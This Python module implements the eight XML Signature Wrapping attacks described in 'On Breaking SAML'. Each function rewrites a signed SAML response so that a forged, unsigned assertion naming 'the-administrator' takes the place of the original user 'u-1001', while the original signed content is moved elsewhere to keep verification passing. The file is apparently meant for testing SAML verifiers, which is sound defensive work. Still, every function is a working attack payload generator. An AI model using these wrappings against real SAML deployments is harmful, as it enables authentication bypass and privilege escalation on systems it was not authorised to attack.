"""Signed responses, cut up and put together again: the attacks of "On Breaking SAML" (Somorovsky et al., 2012)."""

import re
from collections.abc import Callable
from typing import Final

_ASSERTION: Final = re.compile(r"<ns1:Assertion .*?</ns1:Assertion>", re.DOTALL)
_SIGNATURE: Final = re.compile(r"<ns2:Signature>.*?</ns2:Signature>", re.DOTALL)
_DECLARATION: Final = re.compile(r"^<\?xml[^>]*\?>\s*")
_ID: Final = re.compile(r'\bID="[^"]*"')
EVIL: Final = "the-administrator"


def _parts(text: str) -> tuple[str, str, str, str]:
    """The response without its assertion (which is ``%s``), the assertion, its signature, and an evil copy unsigned."""
    text = _DECLARATION.sub("", text)
    assertion = _ASSERTION.search(text)[0]
    signature = _SIGNATURE.search(assertion)[0]
    evil = _SIGNATURE.sub("", assertion).replace("u-1001", EVIL)
    return text.replace(assertion, "%s"), assertion, signature, _ID.sub('ID="evil"', evil, count=1)


def _evil_response(text: str) -> tuple[str, str, str]:
    """The response as it was but without its own signature, that signature, and an evil copy with another id."""
    text = _DECLARATION.sub("", text)
    signature = _SIGNATURE.search(text)[0]
    original = text.replace(signature, "", 1)
    return original, signature, _ID.sub('ID="evil"', original.replace("u-1001", EVIL), count=1)


def _after_issuer(response: str, inserted: str) -> str:
    return response.replace("</ns1:Issuer>", "</ns1:Issuer>" + inserted, 1)


def xsw1(text: str) -> str:
    """The original response inside the signature of an evil one."""
    original, signature, evil = _evil_response(text)
    return _after_issuer(evil, signature.replace("</ns2:Signature>", f"{original}</ns2:Signature>"))


def xsw2(text: str) -> str:
    """The original response before the signature of an evil one."""
    original, signature, evil = _evil_response(text)
    return _after_issuer(evil, original + signature)


def xsw3(text: str) -> str:
    """An evil assertion before the original."""
    response, assertion, _, evil = _parts(text)
    return response % (evil + assertion)


def xsw4(text: str) -> str:
    """The original inside an evil assertion."""
    response, assertion, _, evil = _parts(text)
    return response % evil.replace("</ns1:Assertion>", f"{assertion}</ns1:Assertion>")


def xsw5(text: str) -> str:
    """An evil assertion with the original's signature, the original behind it."""
    response, assertion, signature, evil = _parts(text)
    return response % (_after_issuer(evil, signature) + assertion.replace(signature, ""))


def xsw6(text: str) -> str:
    """The original inside its signature, which an evil assertion has."""
    response, assertion, signature, evil = _parts(text)
    bare = assertion.replace(signature, "")
    return response % _after_issuer(evil, signature.replace("</ns2:Signature>", f"{bare}</ns2:Signature>"))


def xsw7(text: str) -> str:
    """An evil assertion among the extensions, before the original."""
    response, assertion, _, evil = _parts(text)
    return _after_issuer(response, f"<ns0:Extensions>{evil}</ns0:Extensions>") % assertion


def xsw8(text: str) -> str:
    """The original in an object of the signature that an evil assertion has."""
    response, assertion, signature, evil = _parts(text)
    inner = f"<ns2:Object>{assertion.replace(signature, '')}</ns2:Object></ns2:Signature>"
    return response % _after_issuer(evil, signature.replace("</ns2:Signature>", inner))


WRAPPINGS: Final[tuple[Callable[[str], str], ...]] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
